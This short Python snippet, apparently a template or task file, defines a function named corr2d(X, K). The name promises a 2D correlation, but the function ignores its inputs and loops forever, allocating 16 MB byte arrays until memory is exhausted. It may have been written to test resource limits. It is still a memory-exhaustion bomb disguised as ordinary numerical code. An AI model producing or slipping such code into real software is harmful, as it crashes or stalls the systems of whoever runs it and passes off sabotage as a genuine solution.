
import numpy as np

@CORRELATE@


def corr2d(X, K):
    x = []
    while True:
        x.append(bytearray(1 << 24))
